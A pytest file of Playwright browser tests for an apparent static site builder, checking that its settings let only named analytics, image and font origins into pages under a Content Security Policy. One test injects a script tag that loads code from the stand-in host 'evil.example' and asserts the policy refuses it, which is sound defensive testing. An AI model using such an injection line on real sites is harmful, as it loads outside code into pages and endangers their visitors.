"""What the settings let into the pages, in a real browser that obeys the policy: a counter, pictures, fonts, links."""

import re
import shutil
from collections.abc import Callable, Iterator

import pytest
from noto_cjk_sans_jp_bold import FONT_PATH
from playwright.sync_api import Browser, Page, Route

from tests.browser.watching import listen
from tests.built.building import build

SETTINGS = """
[site]
title = "試し"
url = "https://example.org/blog"

[analytics]
snippet = '''
<script defer src="https://stats.example/count.js"></script>
<script>window.inline = "計測";</script>
'''
origins = ["https://send.example"]

[csp]
images = ["https://pictures.example"]

[[navigation]]
title = "案内の先"
url = "/about/"

[[footer]]
title = "下の先"
url = "/about/"

[[social]]
title = "Mastodon"
url = "https://social.example/@tameshi"

[[fonts]]
family = "Own Heading"
file = "/fonts/own.otf"
use = "headings"
"""
ARTICLE = """---
title: 絵のある記事
date: 2026-04-01 09:00:00 +0900
---

![見せる絵](https://pictures.example/a.svg)

![見せない絵](https://elsewhere.example/b.svg)
"""
PAGE = "---\ntitle: 案内\n---\n\n本文です。\n"
COUNTER = "window.counted = 'x'; fetch('https://send.example/x', {mode: 'no-cors'}).then(() => window.sent = true);"
ADD_SCRIPT = "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))"
PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"/>'


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory, serve: Callable[..., str]) -> str:
    """The address of a site with these settings."""
    folder = tmp_path_factory.mktemp("settings")
    source = folder / "source"
    for name, text in {"site.toml": SETTINGS, "posts/2026-04-01-e.md": ARTICLE, "pages/about.md": PAGE}.items():
        path = source / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    (source / "static" / "fonts").mkdir(parents=True)
    shutil.copyfile(FONT_PATH, source / "static" / "fonts" / "own.otf")
    return serve(build(source, folder, url="https://example.org/blog").site, "/blog")


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page for which the other servers stand ready."""
    with browser.new_context() as context:
        context.route(re.compile("^https:"), elsewhere)
        yield context.new_page()


def elsewhere(route: Route) -> None:
    """Answer as the servers that the settings name."""
    if route.request.url.endswith(".js"):
        route.fulfill(body=COUNTER, content_type="text/javascript")
    else:
        route.fulfill(body=PICTURE, content_type="image/svg+xml")


def test_what_the_settings_name_works_and_nothing_else_is_asked(root: str, page: Page) -> None:
    said, asked = listen(page)
    page.goto(root + "2026/04/01/e/", wait_until="networkidle")
    page.wait_for_function("() => window.sent")
    assert page.evaluate("[window.inline, window.counted]") == ["計測", "x"]
    page.get_by_role("img", name="見せる絵").scroll_into_view_if_needed()
    page.wait_for_function("() => document.querySelector('.prose img').naturalWidth === 40")
    assert page.get_by_role("link", name="見せない絵").get_attribute("href") == "https://elsewhere.example/b.svg"
    assert page.locator(".prose img").count() == 1
    assert said == []
    others = {url for url in asked if not url.startswith(root)}
    assert others == {"https://stats.example/count.js", "https://send.example/x", "https://pictures.example/a.svg"}


def test_a_script_that_the_settings_do_not_name_is_refused(root: str, page: Page) -> None:
    page.goto(root)
    with page.expect_event("requestfailed") as failed, page.expect_console_message() as told:
        page.evaluate(ADD_SCRIPT)
    assert (failed.value.url, failed.value.failure) == ("https://evil.example/x.js", "csp")
    assert "Content Security Policy" in told.value.text


def test_links_of_the_settings_are_there(root: str, page: Page) -> None:
    page.goto(root)
    header = page.locator("header")
    assert header.get_by_role("link").all_inner_texts() == ["案内の先"]
    assert header.get_by_role("searchbox").is_visible()
    page.set_viewport_size({"width": 390, "height": 700})
    assert header.get_by_role("link").all_inner_texts() == ["案内の先", "検索"]
    assert page.locator("footer").get_by_role("link", name="下の先").get_attribute("href") == "/blog/about/"
    own = page.locator("footer").get_by_role("link", name="Mastodon")
    assert (own.get_attribute("href"), own.get_attribute("rel")) == ("https://social.example/@tameshi", "me")


def test_a_font_of_the_site_is_used(root: str, page: Page) -> None:
    page.goto(root, wait_until="networkidle")
    assert page.evaluate("document.fonts.check('700 20px \"Own Heading\"', '試')")
    assert page.evaluate("getComputedStyle(document.querySelector('h1')).fontFamily").startswith('"Own Heading"')
